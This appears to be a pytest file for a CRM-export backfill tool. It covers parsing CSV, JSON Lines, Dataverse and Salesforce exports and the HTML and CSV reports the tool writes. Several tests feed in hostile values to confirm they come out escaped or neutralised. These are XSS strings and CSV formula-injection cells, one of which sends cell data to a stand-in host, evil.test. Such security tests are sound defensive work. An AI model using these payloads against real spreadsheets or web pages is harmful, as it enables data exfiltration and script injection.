"""ops.backfill offline: reading CSV / JSON Lines / CRM exports, and the report a person opens in a browser."""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from handlers.api import FieldError
from handlers.intake.crm.mapping import load_field_map
from ops.backfill.report import RowOutcome, cell, write_errors_csv, write_html, write_outcomes_csv
from ops.backfill.rows import Row, read_rows
from ops.backfill.sample import BREAKS, make_rows, write_csv
from tests.fakes import sample


def test_read_rows_of_a_generated_file(tmp_path: Path) -> None:
    file = tmp_path / "requests.csv"
    write_csv(file, make_rows(100, 0.05, tag="t"))
    kind, rows = read_rows(file, "auto", load_field_map(), "org")
    assert kind == "request"
    invalid = [r for r in rows if r.errors]
    assert [r.number for r in invalid] == [20, 40, 60, 80, 100]
    assert [r.errors[0].field for r in invalid] == [column for column, _ in BREAKS]
    assert all(r.request_id == f"t-{r.number - 1:05d}" for r in rows)


def test_json_lines_with_a_broken_line_and_a_repeated_request_id(tmp_path: Path) -> None:
    request = sample()
    file = tmp_path / "requests.jsonl"
    file.write_text("\n".join([json.dumps(request), "{not json", json.dumps(request), "[1]"]) + "\n")
    _, rows = read_rows(file, "auto", load_field_map(), "org")
    assert [[e.code for e in r.errors] for r in rows] == [[], ["not_json"], ["duplicate_request_id"], ["not_an_object"]]


def test_a_dataverse_export_maps_through_the_field_map_and_names_its_columns(tmp_path: Path) -> None:
    columns = ["accountid", "name", "address1_line1", "address1_city", "address1_postalcode", "address1_country",
               "telephone1", "emailaddress1", "csp_domainprefix", "csp_contactfirstname", "csp_contactlastname",
               "csp_culture", "csp_language"]  # fmt: skip
    good = ["6a4b2f1e-0001", "Wingtip AB", "Kungsgatan 1", "Stockholm", "111 43", "Sweden", "+46 8 1", "it@w.se",
            "wingtipab", "Sigrid", "Holm", "sv-SE", "sv"]  # fmt: skip
    bad = [*good[:3], "", *good[4:]]
    bad[0] = "6a4b2f1e-0002"
    file = tmp_path / "accounts.csv"
    with file.open("w", newline="") as out:
        csv.writer(out).writerows([columns, good, bad])
    kind, rows = read_rows(file, "auto", load_field_map(), "org-7")
    assert kind == "dataverse"
    assert rows[0].request is not None
    assert rows[0].request_id is not None and rows[0].request_id.startswith("dv:org-7:6a4b2f1e-0001:")
    assert rows[0].record_key == "record|dataverse|org-7|6a4b2f1e-0001"
    assert [e.field for e in rows[1].errors] == ["address1_city"]


def test_a_salesforce_export_in_json_lines(tmp_path: Path) -> None:
    account = {"Id": "001X", "Name": "Ege Yelken", "BillingStreet": "Vasagatan 7", "BillingCity": "Göteborg",
               "BillingPostalCode": "411 06", "BillingCountry": "Sweden", "Csp_Billing_Email__c": "it@ege.se",
               "Csp_Contact_First_Name__c": "Lars", "Csp_Contact_Last_Name__c": "Berg", "Csp_Culture__c": "sv-SE",
               "Csp_Language__c": "sv", "Csp_Domain_Prefix__c": "egeyelken"}  # fmt: skip
    file = tmp_path / "accounts.jsonl"
    file.write_text(json.dumps(account) + "\n")
    kind, rows = read_rows(file, "auto", load_field_map(), "00D1")
    assert kind == "salesforce"
    assert rows[0].request is not None
    assert rows[0].request.customer.address.country == "SE"


def test_a_file_of_unknown_columns_is_refused(tmp_path: Path) -> None:
    file = tmp_path / "odd.csv"
    file.write_text("a,b\n1,2\n")
    with pytest.raises(ValueError, match="--format"):
        read_rows(file, "auto", load_field_map(), "org")


def report(tmp_path: Path, rows_count: int = 200) -> tuple[Path, dict[str, int]]:
    file = tmp_path / "requests.csv"
    generated = make_rows(rows_count, 0.05, tag="h")
    generated[0]["requestId"] = "<script>alert(1)</script>"  # a hostile value: escaped, never run
    write_csv(file, generated)
    _, rows = read_rows(file, "auto", load_field_map(), "org")
    outcomes = {r.number: RowOutcome("created", "c", "t", "d") for r in rows if r.valid and r.number % 7}
    outcomes.update({r.number: RowOutcome("failed", reason="domain_unavailable") for r in rows if r.valid
                     and r.number % 7 == 0})  # fmt: skip
    write_html(rows, outcomes, tmp_path / "report.html", source=str(file))
    write_errors_csv(rows, tmp_path / "errors.csv")
    write_outcomes_csv(rows, outcomes, tmp_path / "outcomes.csv")
    invalid = sum(1 for r in rows if r.errors)
    failed = sum(1 for o in outcomes.values() if o.state == "failed")
    expected = {"rows": rows_count, "valid": rows_count - invalid, "invalid": invalid, "errors": invalid,
                "created": len(outcomes) - failed, "failed": failed, "pending": 0}  # fmt: skip
    return tmp_path / "report.html", expected


def test_the_report_files_agree_and_escape_what_the_file_holds(tmp_path: Path) -> None:
    page, expected = report(tmp_path)
    text = page.read_text()
    assert "<script>" not in text and "&lt;script&gt;" in text
    assert "http://" not in text.replace("http://www.w3.org/2000/svg", "")  # nothing fetched from elsewhere
    with (tmp_path / "errors.csv").open() as errors:
        assert len(list(csv.DictReader(errors))) == expected["errors"]
    with (tmp_path / "outcomes.csv").open() as outcomes:
        states = [row["state"] for row in csv.DictReader(outcomes)]
    assert (states.count("created"), states.count("invalid")) == (expected["created"], expected["invalid"])


FORMULAS = ['=HYPERLINK("https://evil.test/?d="&A1,"Click")', "+1+2", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(tmp_path: Path) -> None:
    # Issue 21, finding 6: a CRM's text (requestId, account id, a message quoting the row) opened in Excel.
    rows = [
        Row(number=i + 1, request_id=text, crm_account_id=text, errors=[FieldError(field=text, code="c", message=text)])
        for i, text in enumerate(FORMULAS)
    ]
    outcomes = {row.number: RowOutcome("failed", row.request_id, row.request_id, row.request_id, row.request_id,
                                       row.request_id) for row in rows}  # fmt: skip
    write_errors_csv(rows, tmp_path / "errors.csv")
    write_outcomes_csv(rows, outcomes, tmp_path / "outcomes.csv")
    for name, columns in (("errors.csv", [1, 2, 3, 5]), ("outcomes.csv", [1, 2, 4, 5, 6, 7, 8])):
        with (tmp_path / name).open(newline="", encoding="utf-8") as written:
            lines = list(csv.reader(written))[1:]
        assert [[line[c] for c in columns] for line in lines] == [["'" + text] * len(columns) for text in FORMULAS]
        assert [line[0] for line in lines] == [str(i + 1) for i in range(len(FORMULAS))]  # numbers stay numbers
    assert cell("crm-0001") == "crm-0001" and cell("") == "" and cell(-1) == -1


def test_the_html_report_escapes_every_value_from_the_file_and_the_ledger(tmp_path: Path) -> None:
    hostile = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
    rows = [Row(number=1, request_id=hostile, errors=[FieldError(field=hostile, code=hostile, message=hostile)])]
    write_html(rows, {1: RowOutcome("failed", reason=hostile)}, tmp_path / "report.html", source=hostile)
    page = (tmp_path / "report.html").read_text()
    assert "<img" not in page and "<script" not in page and '"><img' not in page  # no tag, no attribute left
    assert page.count("&lt;script&gt;") >= 5  # title, file name, chart labels, the table's cells


def test_the_html_report_shows_its_counts_in_a_real_headless_browser(tmp_path: Path) -> None:
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.skip("chromium is not installed and scripts/setup could not install it (apt-get install chromium)")
    page, expected = report(tmp_path)
    result = subprocess.run(
        [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", page.as_uri()],
        capture_output=True, text=True, timeout=120, check=True,
    )  # fmt: skip
    dom = result.stdout
    shown = {key: int(value) for key, value in re.findall(r'<td data-count="(\w+)">(\d+)</td>', dom)}
    assert shown == expected
    bars = {label: int(n) for label, n in re.findall(r'<g class="bar" data-label="([^"]+)" data-count="(\d+)"', dom)}
    assert sum(n for label, n in bars.items() if "·" in label) == expected["errors"]
    assert bars["created"] == expected["created"]
    assert "<script>alert(1)</script>" not in dom
